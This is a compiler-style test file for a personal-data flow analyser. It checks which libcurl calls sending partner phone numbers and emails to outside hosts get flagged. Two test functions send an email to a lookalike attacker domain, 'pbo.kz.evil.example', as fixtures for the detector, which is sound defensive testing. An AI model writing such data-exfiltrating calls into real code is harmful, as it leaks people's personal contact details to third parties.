// RUN: not piiflow scan %s -- -std=c++17 -nostdinc -nostdinc++ -isystem %S/../Inputs | FileCheck %s --implicit-check-not=warning:
// RUN: not piiflow scan --policy %S/Inputs/approve-partner-api.json %s -- -std=c++17 -nostdinc -nostdinc++ -isystem %S/../Inputs | FileCheck %s --check-prefix=APPROVED --implicit-check-not=warning:
// libcurl: data set on a handle goes to the host of the handle's URL.
// Hosts in approved.recipients (the default approves pbo.kz and *.pbo.kz)
// are not third parties; other constant hosts are named; a URL that is not
// a constant is an unknown host.
#include <curl/curl.h>
#include <string>

struct Partner {
  std::string phone;
  std::string email;
};

static const std::string kVendorBase = "https://collect.vendor.example";

void to_vendor(const Partner &p) {
  CURL *c = curl_easy_init();
  curl_easy_setopt(c, CURLOPT_URL, (kVendorBase + "/v2/events").c_str());
  curl_easy_setopt(c, CURLOPT_POSTFIELDS, p.phone.c_str());
  // CHECK: :[[@LINE-1]]:3: warning: personal data (contact.phone) from 'Partner::phone' reaches a third party at 'collect.vendor.example' [pii-third-party]
  // CHECK: note: reaches a third party at 'collect.vendor.example' through 'curl_easy_setopt'
  // APPROVED: :[[@LINE-3]]:3: warning: personal data (contact.phone) from 'Partner::phone' reaches a third party at 'collect.vendor.example'
  curl_easy_perform(c);
}

void to_our_backend(const Partner &p) {
  // An approved host of the default policy: PBO's own backend.
  CURL *c = curl_easy_init();
  curl_easy_setopt(c, CURLOPT_URL, "https://api.pbo.kz/v1/partners");
  curl_easy_setopt(c, CURLOPT_POSTFIELDS, p.email.c_str());
  curl_easy_perform(c);
}

void to_a_lookalike(const Partner &p) {
  // "pbo.kz" must end the host: this one belongs to someone else.
  CURL *c = curl_easy_init();
  curl_easy_setopt(c, CURLOPT_URL, "https://pbo.kz.evil.example/collect");
  curl_easy_setopt(c, CURLOPT_COOKIE, p.email.c_str());
  // CHECK: :[[@LINE-1]]:3: warning: personal data (contact.email) from 'Partner::email' reaches a third party at 'pbo.kz.evil.example' [pii-third-party]
  // APPROVED: :[[@LINE-2]]:3: warning: personal data (contact.email) from 'Partner::email' reaches a third party at 'pbo.kz.evil.example'
}

void to_somewhere(const Partner &p, const char *url) {
  // The URL comes from outside: the host is not known.
  CURL *c = curl_easy_init();
  curl_easy_setopt(c, CURLOPT_URL, url);
  curl_easy_setopt(c, CURLOPT_POSTFIELDS, p.phone.c_str());
  // CHECK: :[[@LINE-1]]:3: warning: personal data (contact.phone) from 'Partner::phone' reaches a third party (host not known) [pii-third-party]
  // APPROVED: :[[@LINE-2]]:3: warning: personal data (contact.phone) from 'Partner::phone' reaches a third party (host not known)
}

void in_the_url(const Partner &p) {
  // Data in the URL's query goes to that URL's host.
  CURL *c = curl_easy_init();
  std::string url = "https://maps.partner-api.example/geo?phone=" + p.phone;
  curl_easy_setopt(c, CURLOPT_URL, url.c_str());
  // CHECK: :[[@LINE-1]]:3: warning: personal data (contact.phone) from 'Partner::phone' reaches a third party (host not known) [pii-third-party]
  // APPROVED: :[[@LINE-2]]:3: warning: personal data (contact.phone) from 'Partner::phone' reaches a third party (host not known) [pii-third-party]
}

// A project approves an outsourcing company's host and its client wrapper.
void partner_api_send(const Partner &p) {
  CURL *c = curl_easy_init();
  curl_easy_setopt(c, CURLOPT_URL, "https://api.partner-api.example/v1");
  curl_easy_setopt(c, CURLOPT_POSTFIELDS, p.email.c_str());
  // CHECK: :[[@LINE-1]]:3: warning: personal data (contact.email) from 'Partner::email' reaches a third party at 'api.partner-api.example' [pii-third-party]
}


void appended_url(const Partner &p) {
  // The URL starts at an approved host but is changed before use: the
  // initialiser no longer tells where the data goes.
  std::string url = "https://api.pbo.kz";
  url += ".evil.example/collect";
  CURL *c = curl_easy_init();
  curl_easy_setopt(c, CURLOPT_URL, url.c_str());
  curl_easy_setopt(c, CURLOPT_POSTFIELDS, p.email.c_str());
  // CHECK: :[[@LINE-1]]:3: warning: personal data (contact.email) from 'Partner::email' reaches a third party (host not known) [pii-third-party]
  // APPROVED: :[[@LINE-2]]:3: warning: personal data (contact.email) from 'Partner::email' reaches a third party (host not known)
}
